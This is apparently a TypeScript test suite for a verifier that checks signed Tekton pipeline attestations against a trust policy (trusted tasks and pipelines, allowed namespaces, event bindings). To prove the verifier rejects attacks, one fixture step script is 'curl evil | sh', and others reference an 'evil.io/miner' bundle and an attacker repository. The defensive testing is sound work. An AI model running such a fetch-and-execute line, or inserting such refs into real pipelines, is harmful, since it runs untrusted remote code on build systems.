// The trust model of CONTRACT §3 "Policy file", check by check, on real signed attestations of the example.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { PipelineRun, RunInput } from '../../shared/core/types.js';
import { FsStore } from '../../shared/stores/fs-store.js';
import { loadKeys } from '../../shared/verify/keys.js';
import { parsePolicy } from '../../shared/verify/policy.js';
import type { VerifyReport } from '../../shared/verify/report.js';
import { verifyDigest } from '../../shared/verify/verify-digest.js';
import {
  attest,
  eventIdOf,
  exampleInput,
  IMAGE_HEX,
  makeKey,
  pushBody,
  REVISION,
  signEvent,
  taskRunOf,
  tempDir,
  type TestKey,
} from './harness.js';

const TASKS = `trustedTasks:
  - bundle: gcr.io/tekton-releases/catalog/upstream/git-clone
  - bundle: gcr.io/tekton-releases/catalog/upstream/buildah
  - git: https://github.com/acme/ci-tasks.git
    path: tasks/unit-tests.yaml
  - git: https://github.com/acme/ci-tasks.git
    path: tasks/trivy-scan.yaml
  - name: send-to-webhook-slack
    namespace: ci
`;
const STRICT = `${TASKS}trustedPipelines:
  - git: https://github.com/acme/ci-pipelines.git
    path: pipelines/build-push.yaml
allowedNamespaces: [ci]
requireTriggerEvent: true
eventBindings:
  - task: git-clone
    result: commit
    event: head_commit.id
  - task: git-clone
    result: url
    event: repository.clone_url
`;
const codes = (r: VerifyReport): string[] =>
  [
    ...new Set(r.checks.filter((c) => !c.passed).map((c) => c.code ?? '')),
  ].sort();

describe('verify trust model (trustedPipelines, allowedNamespaces, requireSucceeded, refs, children)', () => {
  let cleanup: () => Promise<void>;
  let store: FsStore;
  let key: TestKey;
  let run: RunInput;

  beforeEach(async () => {
    let dir: string;
    ({ dir, cleanup } = await tempDir());
    store = new FsStore(join(dir, 'store'));
    key = await makeKey(dir, 'key');
    run = exampleInput('trusted');
  });
  afterEach(() => cleanup());

  async function attestRun(input = run, body = pushBody(REVISION)) {
    await signEvent(store, key.signer, eventIdOf(input), body);
    return attest(store, key.signer, input);
  }
  async function verify(policy = STRICT, hex = IMAGE_HEX) {
    return verifyDigest(hex, {
      store,
      keys: await loadKeys([key.pubPath]),
      policy: parsePolicy(policy, 'p.yaml'),
      now: new Date('2026-05-05T00:00:00Z'),
    });
  }

  it('passes the genuine pipeline, its image-build TaskRun judged as part of it', async () => {
    await attestRun();
    await attest(store, key.signer, {
      run: taskRunOf(run, 'image-build'),
      taskRuns: [],
    });
    const report = await verify();
    assert.deepEqual(codes(report), []);
    assert.equal(report.passed, true);
    const tr = report.runs.find((r) => r.kind === 'TaskRun');
    assert.equal(tr?.partOf, run.run.metadata.uid);
  });

  it('PIPELINE_UNTRUSTED: an inline pipelineSpec matches no trustedPipelines entry', async () => {
    delete run.run.spec['pipelineRef'];
    delete run.run.status.provenance;
    run.run.spec['pipelineSpec'] = { tasks: [] };
    await attestRun();
    assert.deepEqual(codes(await verify()), ['PIPELINE_UNTRUSTED']);
  });

  it('PIPELINERUN_MISSING: a TaskRun alone cannot pass, and fails the event rules', async () => {
    await attest(store, key.signer, {
      run: taskRunOf(run, 'image-build'),
      taskRuns: [],
    });
    assert.deepEqual(codes(await verify()), [
      'EVENT_MISSING',
      'PIPELINERUN_MISSING',
    ]);
  });

  it('allowedNamespaces: another namespace never decides — no pass, no veto', async () => {
    await attestRun();
    const foreign = structuredClone(taskRunOf(run, 'image-build'));
    foreign.metadata.namespace = 'attacker';
    foreign.metadata.uid = 'attacker-uid';
    delete foreign.spec.taskRef;
    foreign.spec.taskSpec = {
      steps: [{ name: 'x', script: 'curl evil | sh' }],
    };
    await attest(store, key.signer, { run: foreign, taskRuns: [] });
    const report = await verify();
    assert.deepEqual(codes(report), []);
    const ignored = report.runs.find((r) => r.ignored !== undefined);
    assert.match(
      ignored?.ignored ?? '',
      /namespace attacker is not in allowedNamespaces/
    );
    // The genuine run itself, when its namespace is not allowed, decides nothing either.
    assert.deepEqual(
      codes(
        await verify(
          STRICT.replace(
            'allowedNamespaces: [ci]',
            'allowedNamespaces: [release]'
          )
        )
      ),
      ['PIPELINERUN_MISSING']
    );
    assert.deepEqual(
      codes(await verify(`${TASKS}allowedNamespaces: [release]\n`)),
      ['PROVENANCE_MISSING']
    );
  });

  it('NOT_SUCCEEDED: a failed run and its failed task do not pass (unless requireSucceeded: false)', async () => {
    run.run.status.conditions = [
      { type: 'Succeeded', status: 'False', reason: 'Failed' },
    ];
    const scan = taskRunOf(run, 'security-scan');
    scan.status.conditions = [
      { type: 'Succeeded', status: 'False', reason: 'Failed' },
    ];
    await attestRun();
    const report = await verify();
    assert.deepEqual(codes(report), ['NOT_SUCCEEDED']);
    assert.equal(
      report.checks.filter((c) => c.code === 'NOT_SUCCEEDED').length,
      2
    );
    assert.deepEqual(
      codes(await verify(`${STRICT}requireSucceeded: false\n`)),
      []
    );
  });

  it('CHILD_UNJUDGED: a CustomRun or nested PipelineRun child cannot be judged', async () => {
    (run.run as PipelineRun).status.childReferences?.push(
      {
        apiVersion: 'tekton.dev/v1beta1',
        kind: 'CustomRun',
        name: 'wait',
        pipelineTaskName: 'wait',
      },
      {
        apiVersion: 'tekton.dev/v1',
        kind: 'PipelineRun',
        name: 'inner',
        pipelineTaskName: 'inner',
      }
    );
    await attestRun();
    const report = await verify();
    assert.deepEqual(codes(report), ['CHILD_UNJUDGED']);
    assert.equal(
      report.checks.filter((c) => c.code === 'CHILD_UNJUDGED').length,
      2
    );
  });

  it('TASK_REF_MISMATCH: a TaskRun that ran another ref than the pipeline declares is judged by what ran', async () => {
    const clone = taskRunOf(run, 'git-clone');
    clone.spec.taskRef = {
      resolver: 'bundles',
      params: [
        { name: 'bundle', value: 'evil.io/miner:1@sha256:' + 'e'.repeat(64) },
      ],
    };
    await attestRun();
    const report = await verify();
    assert.deepEqual(codes(report), ['TASK_REF_MISMATCH', 'TASK_UNTRUSTED']);
  });

  it('TASK_REF_MISMATCH: a ref whose refSource names another repository', async () => {
    const clone = taskRunOf(run, 'git-clone');
    clone.status.provenance = {
      refSource: { uri: 'evil.io/miner', digest: { sha256: 'e'.repeat(64) } },
    };
    await attestRun();
    assert.ok(codes(await verify()).includes('TASK_REF_MISMATCH'));
  });

  it('task-result bindings: what git-clone fetched must be the event’s commit and repository', async () => {
    const clone = taskRunOf(run, 'git-clone');
    clone.status.results = [
      { name: 'commit', value: REVISION },
      { name: 'url', value: 'https://github.com/attacker/evil' },
    ];
    await attestRun();
    const report = await verify();
    assert.deepEqual(codes(report), ['EVENT_BINDING_MISMATCH']);
    const bad = report.checks.find((c) => !c.passed);
    assert.match(bad?.message ?? '', /attacker\/evil/);
  });

  it('task-result bindings compare git URLs without .git suffix and host case', async () => {
    taskRunOf(run, 'git-clone').status.results = [
      { name: 'commit', value: REVISION },
      { name: 'url', value: 'https://GitHub.com/acme/web' },
    ];
    await attestRun();
    assert.deepEqual(codes(await verify()), []);
  });

  it('name entries: a cluster-resolver Task from another namespace does not match', async () => {
    const ref = {
      resolver: 'cluster',
      params: [
        { name: 'name', value: 'send-to-webhook-slack' },
        { name: 'kind', value: 'task' },
        { name: 'namespace', value: 'attacker' },
      ],
    };
    taskRunOf(run, 'notify').spec.taskRef = ref;
    const spec = (run.run as PipelineRun).status.pipelineSpec;
    const notify = [...(spec?.tasks ?? []), ...(spec?.finally ?? [])].find(
      (t) => t.name === 'notify'
    );
    assert.ok(notify, 'the example has a notify task');
    notify.taskRef = ref;
    await attestRun();
    assert.deepEqual(codes(await verify()), ['TASK_UNTRUSTED']);
  });
});
